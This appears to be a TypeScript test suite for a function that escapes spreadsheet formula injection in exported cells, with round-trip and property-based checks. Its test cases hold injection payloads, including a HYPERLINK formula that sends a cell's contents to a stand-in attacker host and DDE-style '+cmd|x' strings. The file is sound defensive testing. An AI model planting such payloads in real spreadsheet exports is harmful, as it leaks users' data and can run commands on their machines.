import fc from 'fast-check';
import { expect, it } from 'vitest';
import { escapeFormulas, unescapeFormulas } from './escape-formulas.ts';

it.each([
  ['=HYPERLINK("http://evil.example/?"&A1,"Dacia")', '\'=HYPERLINK("http://evil.example/?"&A1,"Dacia")'],
  ['@SUM(1+1)', "'@SUM(1+1)"],
  ['+cmd|x', "'+cmd|x"],
  ['-1+cmd|x', "'-1+cmd|x"],
  ['＝1+1', "'＝1+1"],
  ['\t=1', "\t'=1"],
  [' "=1"', ' "\'=1"'],
  ['Dacia;=1', "Dacia;'=1"],
  ['Dacia\n=1\r\n@x', "Dacia\n'=1\r\n'@x"],
  ["'=1", "''=1"],
])('escapes %j', (text, escaped) => {
  expect(escapeFormulas(text)).toBe(escaped);
  expect(unescapeFormulas(escaped)).toBe(text);
});

it.each([
  ...['', 'Renault Clio', "L'Été", "'quoted'", 'a=1', 'desk@example.com', 'https://example.com/?a=1&b=@'],
  ...['-5.25', '-12', '-12,5 %', '+33 1 23 45 67 89', '+1 (555) 010-1234', '+33 1.23/45–67', '-', '—'],
])('leaves %j as it is', (text) => {
  expect([escapeFormulas(text), unescapeFormulas(text)]).toEqual([text, text]);
});

it('reads every text as it was written, and leaves no formula', () => {
  const text = fc.string({ unit: fc.constantFrom(...'=@+-＝\'";\t\r\n 1a(|\u00a0') });
  fc.assert(
    fc.property(fc.oneof(text, fc.string()), (original) => {
      const escaped = escapeFormulas(original);
      expect(unescapeFormulas(escaped)).toBe(original);
      for (const cell of escaped.split(/[;\t\r\n]/)) expect(cell).not.toMatch(/^[\s"]*[=@＝]/);
    }),
  );
});
